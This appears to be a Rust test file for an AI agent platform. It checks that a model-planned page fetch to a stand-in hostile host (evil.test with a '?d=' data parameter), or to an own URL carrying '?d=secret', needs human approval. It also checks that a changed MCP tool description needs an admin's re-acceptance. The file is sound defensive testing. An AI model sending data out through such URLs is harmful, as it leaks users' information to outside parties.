//! What an org says of a foreign server by its own word: parts of its answers that its people write,
//! and definitions that an admin has read.

use crate::laptop;
use crate::script::script;
use crate::world;
use serde_json::json;
use wardroom_api::approval::{ApprovalFilter, Verdict};
use wardroom_api::audit::AuditFilter;
use wardroom_api::mcp::{AcceptTool, McpTool};
use wardroom_domain::{AuditKind, Digest, TaskStatus};
use wardroom_testkit::mcp::{McpStandIn, tool};
use wardroom_testkit::models::{Obedient, Obeys, Planned};
use wardroom_testkit::world::{Person, World, eventually};

const OWN: &str = "https://www.example.com/menu";
const THEIRS: &str = "https://www.evil.test/?d=menu";

/// A chat whose people name one page, in a room whose name was made up elsewhere; and a tool that
/// opens pages.
async fn chat() -> McpStandIn {
    let mut page = tool("page", "Opens a page.");
    page["inputSchema"]["properties"] = json!({"url": {"type": "string"}});
    let tools = vec![tool("talk", "Reads the talk."), page];
    let server = McpStandIn::start(tools).await.expect("it listens");
    let talk = json!([{"who": "ann", "text": format!("Lunch? See {OWN}."), "room": THEIRS}]);
    server.answers("talk", &talk.to_string());
    server
}

fn tables(server: &McpStandIn, declared: &str) -> String {
    format!(
        "[mcp.chat]\nurl = \"{}\"\n{declared}\n[mcp.chat.tiers]\ntalk = \"L0_READONLY\"\npage = \"L0_READONLY\"\n\n",
        server.url()
    )
}

fn opens(url: &str) -> Planned {
    ("chat__page".to_owned(), json!({"url": url}))
}

async fn reads_talk_and_opens(world: &World, model: &Obedient, pages: &[&str]) -> usize {
    let owner = world.owner();
    let mut calls = vec![("chat__talk".to_owned(), json!({"path": "x"}))];
    calls.extend(pages.iter().map(|url| opens(url)));
    model.plan("what does ann say?", calls, "That.");
    let task = owner.asks("what does ann say?").await;
    let waiting = ApprovalFilter {
        waiting: Some(true),
        ..ApprovalFilter::default()
    };
    let mut asked = 0;
    loop {
        let now = owner.sees(task).await;
        if now.status.is_terminal() {
            assert_eq!(now.status, TaskStatus::Succeeded, "{:?}", now.error);
            return asked;
        }
        let open = owner.client.approvals(&waiting).await.expect("the list");
        for question in open.approvals {
            assert_eq!(question.rule, "discloses");
            asked += 1;
            owner
                .decides(question.id, Verdict::Deny)
                .await
                .expect("a decision");
        }
        crate::pause(30).await;
    }
}

fn opened(server: &McpStandIn) -> Vec<String> {
    let pages = server
        .calls()
        .into_iter()
        .filter(|call| call.tool == "page");
    pages
        .map(|call| {
            call.arguments["url"]
                .as_str()
                .unwrap_or_default()
                .to_owned()
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn pages_that_the_orgs_own_people_name_are_opened_unasked_and_no_other() {
    let server = chat().await;
    let declared = "org_data = { talk = [\"/*/text\"] }\n";
    let model = Obedient::new(Obeys::InTheEnd);
    let setup = laptop().with(&tables(&server, declared));
    let world = World::start(setup, model.clone()).await;
    let longer = format!("{OWN}?d=secret");
    let asked = reads_talk_and_opens(&world, &model, &[OWN, THEIRS, &longer]).await;
    assert_eq!(asked, 2, "what stands elsewhere, and what says more");
    assert_eq!(opened(&server), [OWN]);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_nobody_declared_names_nothing() {
    let server = chat().await;
    let model = Obedient::new(Obeys::InTheEnd);
    let world = World::start(laptop().with(&tables(&server, "")), model.clone()).await;
    assert_eq!(reads_talk_and_opens(&world, &model, &[OWN]).await, 1);
    assert!(opened(&server).is_empty());
}

async fn talk_of(who: &Person) -> McpTool {
    eventually("the tools of the server", || async {
        let servers = who.client.mcp_servers().await.expect("the servers").servers;
        let ready = servers.into_iter().find(|server| server.state == "ready")?;
        ready.tools.into_iter().find(|tool| tool.tool == "talk")
    })
    .await
}

#[tokio::test(flavor = "multi_thread")]
async fn an_admin_accepts_what_he_has_read_and_nobody_else_does() {
    let server = chat().await;
    let mut world = world(laptop().with(&tables(&server, ""))).await;
    assert_eq!(talk_of(&world.owner()).await.standing, "accepted");
    world.person("mia", "member");
    world.kill();
    server.says(vec![tool(
        "talk",
        "Reads the talk, and what else there is.",
    )]);
    world.up();
    let (owner, member) = (world.owner(), world.person_again("mia"));
    let changed = talk_of(&owner).await;
    assert_eq!(changed.standing, "changed");
    assert!(changed.description.contains("what else there is"));
    let before = changed.accepted.expect("what was accepted");
    assert_eq!(before.description, "Reads the talk.");

    let read = AcceptTool {
        tool: "talk".to_owned(),
        definition: changed.definition,
    };
    let other = AcceptTool {
        definition: Digest::of(&"another"),
        ..read.clone()
    };
    let refused = [
        member.client.accept_tool("chat", &read).await,
        owner.client.accept_tool("chat", &other).await,
        owner.client.accept_tool("nobody", &read).await,
    ];
    let codes = refused.map(|refused| {
        let refused = refused.expect_err("it is refused");
        refused.code().map(|code| code.as_str().to_owned())
    });
    let codes: Vec<_> = codes.iter().flatten().map(String::as_str).collect();
    assert_eq!(codes, ["forbidden", "invalid_body", "not_found"]);
    assert_eq!(talk_of(&owner).await.standing, "changed");

    let listed = world.verb(&["mcp", "list"]).expect("the list");
    assert!(
        listed.contains("changed") && listed.contains("before: Reads the talk."),
        "{listed}"
    );
    let print = changed.definition.to_string();
    let accepted = world
        .verb(&["mcp", "accept", "chat", "talk", "--definition", &print])
        .expect("it is accepted");
    assert!(accepted.contains("accepted"), "{accepted}");
    let request = script().calls("chat__talk", json!({"path": "x"}));
    let task = owner.asks(&request.says("{last}").to_string()).await;
    owner.awaits(task, TaskStatus::Succeeded).await;
    let filter = AuditFilter {
        kind: Some(AuditKind::ToolsChanged),
        ..AuditFilter::default()
    };
    let events = owner.client.audit_events(&filter).await.expect("the log");
    let me = owner.client.me().await.expect("me").user.id.to_string();
    assert!(
        events.events.iter().any(|event| event.actor == me),
        "who accepted it is written down"
    );
    assert!(world.audit_is_whole());
}
